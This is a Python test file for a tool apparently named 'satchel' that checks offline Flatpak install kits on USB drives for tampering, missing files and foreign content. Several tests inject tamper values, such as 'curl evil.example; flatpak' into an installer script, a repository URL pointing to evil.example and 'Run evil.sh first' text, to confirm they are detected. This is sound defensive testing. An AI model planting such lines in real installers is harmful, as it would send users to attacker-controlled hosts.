"""What ``satchel verify`` says about kits, and what ``make`` does about them."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from tests.gpg import SigningKey
from tests.satchel import satchel
from tests.stick import damage
from tests.stick.damage import ALTERED, Stick, copy_stick, verify
from tests.stick.test_kit_check import (
    FILES,
    INSTALLER,
    KEY_FILE,
    LIST,
    MISSING,
    PAGE,
    UNKNOWN,
    altered,
)
from tests.upstream import COLLECTION, Upstream

pytestmark = pytest.mark.slow

FOREIGN = ("foreign-content", "satchel")


def exchange(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new))


def test_everything_in_it_was_changed(stick: Stick, stranger: Path, friend: Path) -> None:
    kit = stick.root / "satchel"
    for name in ("install.sh", "START-HERE.html"):
        exchange(kit / name, "flatpak", "curl evil.example; flatpak")
    exchange(kit / "contents.tsv", "org.test.Other", "org.test.Evil")
    exchange(kit / "test.flatpakrepo", "file:///", "https://evil.example/")
    for home in (stranger, friend):
        assert verify(stick, home) == {INSTALLER, PAGE, LIST, KEY_FILE}
    exchange(kit / "contents.tsv", "kit\t", "kit\t99.")
    assert verify(stick, stranger, "--quick") == {UNKNOWN, LIST, KEY_FILE}


@pytest.mark.parametrize("change", ["address", "collection", "no collection", "subset"])
def test_both_key_files_were_changed(stick: Stick, stranger: Path, change: str) -> None:
    for path in stick.key_files:
        exchange(path, *FILES[change])
    assert {code for code, _ in verify(stick, stranger, "--quick")} & {"kit-altered"}


def test_the_key_is_gone(stick: Stick, stranger: Path, friend: Path) -> None:
    for path in stick.key_files:
        exchange(path, "GPGKey=", "Comment=")
    for home in (stranger, friend):
        assert ALTERED in verify(stick, home, "--quick")


def test_a_key_more_in_both(
    stick: Stick, stranger: Path, friend: Path, upstream_key: SigningKey, attacker: SigningKey
) -> None:
    """Nobody but the record tells a stranger which keys it was made with."""
    damage.other_key_file(stick, upstream_key.public + attacker.public)
    for home in (stranger, friend):
        assert verify(stick, home) == {ALTERED}


@pytest.mark.parametrize("change", ["into_directory", "into_pipe", "into_dangling_link"])
def test_a_file_is_of_another_kind(stick: Stick, stranger: Path, change: str) -> None:
    kit = stick.root / "satchel"
    names = ("install.sh", "contents.tsv", "START-HERE.html", "test.flatpakrepo")
    for name in names:
        getattr(damage, change)(kit / name)
    assert {altered(name) for name in names} <= verify(stick, stranger, "--quick")


def test_no_kit_at_all(stick: Stick, stranger: Path) -> None:
    shutil.rmtree(stick.root / "satchel")
    assert verify(stick, stranger, "--quick") == {MISSING}
    (stick.satchel / "stick.json").unlink()
    assert verify(stick, stranger, "--quick") == {MISSING}


def test_the_folder_leads_elsewhere(stick: Stick, stranger: Path, tmp_path: Path) -> None:
    (stick.root / "satchel").rename(tmp_path / "elsewhere")
    (stick.root / "satchel").symlink_to(tmp_path / "elsewhere")
    assert ("link-outside", "satchel") in verify(stick, stranger, "--quick")


def test_the_record_is_gone(stick: Stick, stranger: Path) -> None:
    """It only explains; but a kit is not excused by what went with it."""
    (stick.satchel / "stick.json").unlink()
    assert verify(stick, stranger, "--quick") == set()
    for name in ("install.sh", "START-HERE.html"):
        exchange(stick.root / "satchel" / name, "sh", "zsh")
    assert verify(stick, stranger, "--quick") == {INSTALLER, PAGE}


def test_what_satchel_did_not_put_there(stick: Stick, stranger: Path) -> None:
    kit = stick.root / "satchel"
    (kit / "more/deep").mkdir(parents=True)
    for name in ("notes.txt", "photo.jpg", "more/notes.txt"):
        (kit / name).write_text("hello\n")
    assert verify(stick, stranger, "--quick") == {FOREIGN}
    dangerous = (
        "setup.sh", "Install.desktop", "INDEX.HTM", "other.flatpakref", "more/deep/app.AppImage",
        "run-me", "program",
    )  # fmt: skip
    for name in dangerous:
        path = kit / name
        path.write_text("#!/bin/sh\n" if name == "run-me" else "hello\n")
        if name == "program":
            path.chmod(0o755)
        assert verify(stick, stranger, "--quick") == {FOREIGN, altered(name)}
        path.unlink()


def test_what_computers_wrote(stick: Stick, stranger: Path) -> None:
    """In its place, and nothing else there."""
    kit = stick.root / "satchel"
    script = kit / "needs.sh"
    environment = {"PATH": os.environ["PATH"], "HOME": str(stranger)}
    for _ in range(2):
        subprocess.run(["sh", script], env=environment, check=True, stdout=subprocess.DEVNULL)
    written = sorted((kit / "needs").iterdir())
    assert len(written) == 2
    (kit / "needs/.needs-123.tmp").write_text("{")
    assert verify(stick, stranger, "--quick") == set()
    shutil.copy(written[0], kit / "lab.json")
    assert verify(stick, stranger, "--quick") == {FOREIGN}
    (kit / "lab.json").unlink()
    (kit / "needs/photo.json").write_text("hello\n")
    assert verify(stick, stranger, "--quick") == {FOREIGN}
    (kit / "needs/photo.json").write_text("#!/bin/sh\n")
    assert verify(stick, stranger, "--quick") == {altered("needs/photo.json")}


def test_where_every_file_is_a_program(stick: Stick, stranger: Path) -> None:
    """As on FAT, where nothing has a mode."""
    (stick.root / "satchel/notes.txt").write_text("hello\n")
    for path in (stick.root / "satchel").iterdir():
        path.chmod(0o777)
    assert verify(stick, stranger, "--quick") == {FOREIGN}


def test_a_drive_that_satchel_did_not_make(good: Path, stranger: Path, tmp_path: Path) -> None:
    """As `flatpak create-usb` leaves it: nobody is told to run anything."""
    stick = copy_stick(good, tmp_path / "stick")
    shutil.rmtree(stick.satchel)
    shutil.rmtree(stick.root / "satchel")
    assert not {code for code, _ in verify(stick, stranger) if code.startswith("kit-")}
    # Put there by whoever wants it to be run.
    shutil.copytree(good / "satchel", stick.root / "satchel")
    assert KEY_FILE in verify(stick, stranger)


def test_make_writes_it_anew(
    stick: Stick, upstream: Upstream, stranger: Path, tmp_path: Path, attacker: SigningKey
) -> None:
    kit = stick.root / "satchel"
    damage.other_key_file(stick, attacker.public)
    for name in ("install.sh", "START-HERE.html", "contents.tsv"):
        (kit / name).write_text("evil")
    (kit / "evil.flatpakrepo").write_text("[Flatpak Repo]\nUrl=https://evil.example/\n")
    (kit / "notes.txt").write_text("mine")
    (tmp_path / "home").mkdir()
    remote = tmp_path / "test.flatpakrepo"
    remote.write_text(upstream.flatpakrepo(upstream.path.as_uri()))
    done = satchel(
        "make", stick.root, "org.test.Hello", "--remote", remote, "--json", home=tmp_path / "home"
    )
    assert done.finished["verified"]
    assert verify(stick, stranger) == {FOREIGN}
    assert (kit / "notes.txt").read_text() == "mine"


@pytest.mark.thorough
def test_a_collection_keeps_its_place_when_the_record_is_lost(
    stick: Stick, warned: Path, stranger: Path
) -> None:
    """Two collections are judged together."""
    second = Stick(warned)
    for place in ("objects", "refs/mirrors", "extensions/satchel/upstream"):
        shutil.copytree(second.repo / place, stick.repo / place, dirs_exist_ok=True)
    stick.update_summary()
    assert LIST in verify(stick, stranger)
    assert COLLECTION in (stick.root / "satchel/contents.tsv").read_text()


def test_a_journal_excuses_nothing(stick: Stick, stranger: Path) -> None:
    journal = {"version": 1, "stage": "publishing", "started": 0}
    (stick.satchel / "journal.json").write_text(json.dumps(journal))
    assert {code for code, _ in verify(stick, stranger, "--quick")} == {"journal-left"}
    kit = stick.root / "satchel"
    exchange(kit / "START-HERE.html", "<!--/apps-->", "<li>Run evil.sh first</li><!--/apps-->")
    exchange(kit / "contents.tsv", "\tHello\n", "\tHello (run evil.sh first)\n")
    assert {PAGE, LIST} <= verify(stick, stranger, "--quick")


def test_a_kit_is_for_one_of_the_repositories(stick: Stick, stranger: Path) -> None:
    """Of those that clients find, and is judged by that one."""
    table = stick.root / "satchel/contents.tsv"
    for place in (".ostree/repos.d/more", ".hidden/repo"):
        shutil.copytree(stick.repo, stick.root / place)
    assert not {code for code, _ in verify(stick, stranger, "--quick") if code.startswith("kit-")}
    exchange(table, "repo\t.ostree/repo\n", "repo\t.ostree/repos.d/more\n")
    assert not {code for code, _ in verify(stick, stranger, "--quick") if code.startswith("kit-")}
    exchange(table, "\tchosen\t", "\tneeded\t")
    assert LIST in verify(stick, stranger, "--quick")
    exchange(table, "\tneeded\tHello\n", "\tchosen\tHello\n")
    exchange(table, "\tneeded\tOther\n", "\tchosen\tOther\n")
    assert not {code for code, _ in verify(stick, stranger, "--quick") if code.startswith("kit-")}
    exchange(table, ".ostree/repos.d/more", ".hidden/repo")
    assert LIST in verify(stick, stranger, "--quick")
